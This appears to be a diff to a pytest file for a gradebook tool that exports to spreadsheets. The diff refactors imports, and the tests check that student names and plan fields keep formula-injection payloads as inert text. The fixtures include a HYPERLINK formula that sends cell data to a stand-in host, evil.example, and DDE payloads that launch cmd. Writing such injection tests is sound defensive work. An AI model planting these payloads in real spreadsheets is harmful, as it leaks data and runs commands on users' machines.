@@ -14,6 +14,10 @@ from openpyxl import load_workbook
 
 import journal_rules as jr
 import journal_rules_office as office
+from journal_rules.commands import LoadCalendarPlan
+from journal_rules.grading import GradeSheet
+from journal_rules.importing import import_file, plan_import, write_templates
+from journal_rules.model import CalendarPlan, PlannedClass
 from journal_rules.testing import complete_term, demo_gradebook
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
@@ -24,7 +28,7 @@ WHITESPACE = ["\t=1+1", "\r=1+1"]
 
 
 @pytest.fixture(scope="module")
-def term(tmp_path_factory: pytest.TempPathFactory) -> tuple[jr.Gradebook, list[jr.GradeSheet]]:
+def term(tmp_path_factory: pytest.TempPathFactory) -> tuple[jr.Gradebook, list[GradeSheet]]:
     """The demo term, with students of hostile names registered (through a contingent import)
     before the term is completed and its grade sheets formed."""
     book = demo_gradebook(jr.MemoryStore())
@@ -39,7 +43,7 @@ def term(tmp_path_factory: pytest.TempPathFactory) -> tuple[jr.Gradebook, list[j
     path = tmp_path_factory.mktemp("contingent") / "contingent.csv"
     with path.open("w", encoding="utf-8", newline="") as f:
         csv.writer(f).writerows(rows)
-    jr.import_file(book, "or-insp", "contingent", path)
+    import_file(book, "or-insp", "contingent", path)
     assert isinstance(book.clock, jr.ManualClock)
     return book, complete_term(book, book.clock)
 
@@ -62,7 +66,7 @@ def _assert_inert(cells: list[tuple[object, str]], expected: list[str]) -> None:
 
 
 def test_grade_sheets_keep_hostile_names_as_text(
-        term: tuple[jr.Gradebook, list[jr.GradeSheet]], tmp_path: Path) -> None:
+        term: tuple[jr.Gradebook, list[GradeSheet]], tmp_path: Path) -> None:
     _, sheets = term
     with_hostile = [s for s in sheets if any(r.name in HOSTILE for r in s.rows)]
     assert with_hostile, "no grade sheet lists the hostile students"
@@ -75,7 +79,7 @@ def test_grade_sheets_keep_hostile_names_as_text(
 
 
 def test_mark_grid_keeps_hostile_names_as_text(
-        term: tuple[jr.Gradebook, list[jr.GradeSheet]], tmp_path: Path) -> None:
+        term: tuple[jr.Gradebook, list[GradeSheet]], tmp_path: Path) -> None:
     book, _ = term
     cells = _cells(office.grid_to_xlsx(book, "anat/101/2025-1", tmp_path / "grid.xlsx"))
     _assert_inert(cells, HOSTILE)
@@ -83,27 +87,27 @@ def test_mark_grid_keeps_hostile_names_as_text(
 
 
 def test_ktp_keeps_hostile_text_as_text_and_imports_back(tmp_path: Path) -> None:
-    plan = jr.CalendarPlan("anat", "2025-2026", 1, "=cmd|' /C calc'!A0", [
-        jr.PlannedClass(1, date(2025, 9, 1), time(9, 0), HOSTILE[0], Decimal(2), HOSTILE[1],
+    plan = CalendarPlan("anat", "2025-2026", 1, "=cmd|' /C calc'!A0", [
+        PlannedClass(1, date(2025, 9, 1), time(9, 0), HOSTILE[0], Decimal(2), HOSTILE[1],
                         HOSTILE[3]),
-        jr.PlannedClass(2, date(2025, 9, 3), time(10, 30), "-1", Decimal("1.5"), "@x", "+7"),
+        PlannedClass(2, date(2025, 9, 3), time(10, 30), "-1", Decimal("1.5"), "@x", "+7"),
     ], minutes_number="=1+1", minutes_date=date(2025, 8, 25), agreed_by="=A1")
     path = office.plan_to_xlsx(plan, tmp_path / "ktp.xlsx", unit_name="=2*3")
     _assert_inert(_cells(path), [HOSTILE[0], HOSTILE[1], HOSTILE[3], "=cmd|' /C calc'!A0"])
     book = demo_gradebook(jr.MemoryStore())
-    command = jr.plan_import(book, "plan", path)[0]
-    assert isinstance(command, jr.LoadCalendarPlan)
+    command = plan_import(book, "plan", path)[0]
+    assert isinstance(command, LoadCalendarPlan)
     assert command.plan == plan  # text in, the same text out
 
 
 def test_text_beginning_with_tab_or_carriage_return_is_text(tmp_path: Path) -> None:
-    plan = jr.CalendarPlan("anat", "2025-2026", 1, "x", [
-        jr.PlannedClass(1, date(2025, 9, 1), time(9, 0), WHITESPACE[0], Decimal(2),
+    plan = CalendarPlan("anat", "2025-2026", 1, "x", [
+        PlannedClass(1, date(2025, 9, 1), time(9, 0), WHITESPACE[0], Decimal(2),
                         WHITESPACE[1], "r")])
     _assert_inert(_cells(office.plan_to_xlsx(plan, tmp_path / "ktp.xlsx")), WHITESPACE)
 
 
 def test_templates_are_inert(tmp_path: Path) -> None:
-    for path in jr.write_templates(tmp_path):
+    for path in write_templates(tmp_path):
         if path.suffix == ".xlsx":
             assert not [v for v, t in _cells(path) if t == "f"]
